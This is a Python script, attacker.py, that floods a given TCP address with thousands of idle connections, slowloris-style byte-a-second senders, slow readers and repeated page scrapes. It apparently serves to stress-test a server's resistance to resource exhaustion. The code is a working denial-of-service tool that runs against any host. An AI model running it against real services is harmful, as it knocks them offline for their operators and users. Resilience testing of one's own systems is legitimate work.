"""attacker.py ADDRESS PART[,PART]: attacks a TCP port until it is killed. Prints a line on stderr
when it has begun.

`connections`: CONNECTIONS clients that send nothing. `slow`: SLOW clients that send a byte of a
request a second, and as many that ask for a long page and read a kilobyte a second. Each of all
these is replaced by a new one after HELD_S. `scrapes`: reads each page once a second.

The attack is the same whatever the port does: what the port closes is not replaced any earlier.
"""

import contextlib
import resource
import socket
import struct
import sys
import threading
import time
from collections import deque
from collections.abc import Callable
from http.client import HTTPConnection, HTTPException

CONNECTIONS, SLOW, HELD_S = 10_000, 64, 30
STEPS_PER_S = 50
PAGES = ("/metrics", "/status.json", "/requests.json", "/kept.json", "/trace.json",
         "/kept_trace.json", "/profile", "/")  # fmt: skip
REQUEST = b"GET /trace.json HTTP/1.1\r\nHost: attacked\r\n\r\n"
RESET = struct.pack("ii", 1, 0)  # close() sends a reset, and leaves no port in TIME_WAIT
TIMEOUT_S = 2

Target = tuple[str, int]


def connect(target: Target) -> socket.socket:
    """Begins to connect, and does not wait."""
    made = socket.socket()
    made.setblocking(False)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
    made.connect_ex(target)
    return made


class Slow:
    """A client that does something once a second."""

    def __init__(self, target: Target, is_reader: bool):
        self._is_reader, self._sent = is_reader, 0
        self._socket = connect(target)
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        self.close = self._socket.close

    def act(self) -> None:
        with contextlib.suppress(OSError):
            if self._is_reader and self._sent == len(REQUEST):
                self._socket.recv(1024)
            else:
                end = len(REQUEST) if self._is_reader else self._sent + 1
                self._sent += self._socket.send(REQUEST[self._sent : end])


class Pool:
    """So many clients, each of which is replaced by a new one after HELD_S."""

    def __init__(self, count: int, make: Callable):
        self._make, self._per_step, self._due = make, count / (HELD_S * STEPS_PER_S), 0.0
        self.clients = deque(make() for _ in range(count))

    def step(self) -> None:
        self._due += self._per_step
        while self._due >= 1:
            self._due -= 1
            self.clients.popleft().close()
            self.clients.append(self._make())


def scrape(target: Target) -> None:
    while True:
        begin = time.monotonic()
        for page in PAGES:
            connection = HTTPConnection(*target, timeout=TIMEOUT_S)
            with contextlib.suppress(OSError, HTTPException), contextlib.closing(connection):
                connection.request("GET", page)
                connection.getresponse().read()
        time.sleep(max(0, begin + 1 - time.monotonic()))


def attack(target: Target, parts: list[str]) -> None:
    if "scrapes" in parts:
        threading.Thread(target=scrape, args=[target], daemon=True).start()
    pools, slow = [], []
    if "connections" in parts:
        pools.append(Pool(CONNECTIONS, lambda: connect(target)))
    if "slow" in parts:
        slow = [Pool(SLOW, lambda: Slow(target, is_reader=False)),
                Pool(SLOW, lambda: Slow(target, is_reader=True))]
        pools += slow
    print("attacking", file=sys.stderr, flush=True)
    begin = time.monotonic()
    step = 0
    while True:
        step += 1
        time.sleep(max(0, begin + step / STEPS_PER_S - time.monotonic()))
        for pool in pools:
            pool.step()
        for pool in slow:
            for client in list(pool.clients)[step % STEPS_PER_S :: STEPS_PER_S]:
                client.act()


def main(address: str, parts: str) -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    host, port = address.rsplit(":", 1)
    attack((host, int(port)), parts.split(","))


if __name__ == "__main__":
    main(*sys.argv[1:])
